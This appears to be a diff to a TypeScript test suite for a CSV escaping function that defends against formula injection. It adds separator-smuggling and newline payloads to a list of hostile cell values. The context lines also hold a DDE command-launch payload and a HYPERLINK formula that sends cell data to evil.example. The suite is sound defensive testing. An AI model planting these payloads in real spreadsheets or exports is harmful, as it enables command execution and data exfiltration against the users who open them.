@@ -24,6 +24,16 @@ const hostile = [
   '=cmd|"/c calc"!A1',
   '=HYPERLINK("http://evil.example?x="&A1,"here")',
   '%0A=1+1\n=1+1',
+  'x;=1+1;y',
+  'x,=1+1,y',
+  'x\t=1+1\ty',
+  'x|=1+1|y',
+  'x; \u200b=1+1',
+  'x;"=A1&"',
+  ';=1+1',
+  '";=1+1',
+  'x\r\n=1+1',
+  'x\n"=A1&"',
 ];
 
 /** Reads one line of CSV as RFC 4180 says, and nothing more than it says. */
@@ -55,8 +65,69 @@ function readLine(line: string): string[] {
 
 const isFormula = (cell: string) => /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]/u.test(cell);
 
+/**
+ * The cells of a file as a lenient spreadsheet has them that expects a separator: a quote counts where
+ * a cell begins, and what follows its end is part of the cell.
+ */
+function splitFile(file: string, separator: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let isBegin = true;
+  let isQuoted = false;
+  for (let at = 0; at < file.length; at += 1) {
+    const sign = file.charAt(at);
+    if (isQuoted && sign === '"' && file[at + 1] === '"') {
+      cell += sign;
+      at += 1;
+    } else if (isQuoted && sign === '"') {
+      isQuoted = false;
+    } else if (isBegin && sign === '"') {
+      isQuoted = true;
+      isBegin = false;
+    } else if (!isQuoted && [separator, '\r', '\n'].includes(sign)) {
+      cells.push(cell);
+      cell = '';
+      isBegin = true;
+    } else {
+      cell += sign;
+      isBegin = false;
+    }
+  }
+  return [...cells, cell];
+}
+
+const fileOf = (typed: string, separator: string): string =>
+  [
+    ['first', typed, 'last'],
+    [typed, 'second', typed],
+    ['"', typed, '"'],
+  ]
+    .map((cells) => `${cells.map((cell) => toCell(cell, separator)).join(separator)}\r\n`)
+    .join('');
+
+it('would notice a formula that another separator brings about', () => {
+  expect(splitFile('a,x;=1+1;y\r\n', ';').filter(isFormula)).toEqual(['=1+1']);
+  expect(splitFile('a,"x;=1+1;y"\r\n', ';').filter(isFormula)).toEqual(['=1+1']);
+  expect(splitFile('a,"x;""=A1&"""\r\n', ';').filter(isFormula)).toEqual(['=A1&"""']);
+});
+
+it.each(hostile)('is text in a file, whatever it is split at: %j', (typed) => {
+  for (const written of [',', ';']) {
+    for (const read of [',', ';', '\t', '|']) {
+      expect(splitFile(fileOf(typed, written), read).filter(isFormula)).toEqual([]);
+    }
+  }
+});
+
+it('takes time in proportion to the text', () => {
+  const text = `${'\n'.repeat(200_000)}x`;
+  const began = performance.now();
+  expect(toCell(text)).toHaveLength(text.length + 3);
+  expect(performance.now() - began).toBeLessThan(1_000);
+});
+
 it('would notice a formula, and a cell that breaks out', () => {
-  expect(hostile.slice(0, -1).filter((typed) => !isFormula(typed))).toEqual([]);
+  expect(hostile.slice(0, 19).filter((typed) => !isFormula(typed))).toEqual([]);
   expect(readLine('a,"b,""c""",')).toEqual(['a', 'b,"c"', '']);
   expect(() => readLine('a,b"c')).toThrow(/bare cell/);
 });
@@ -66,5 +137,5 @@ it.each(hostile)('is text in a row, and one cell: %j', (typed) => {
   expect(cells).toHaveLength(3);
   const [, cell = ''] = cells;
   expect(isFormula(cell)).toBe(false);
-  expect(cell.replace(/^'/, '')).toBe(typed);
+  expect(cell.replaceAll("'", '')).toBe(typed);
 });
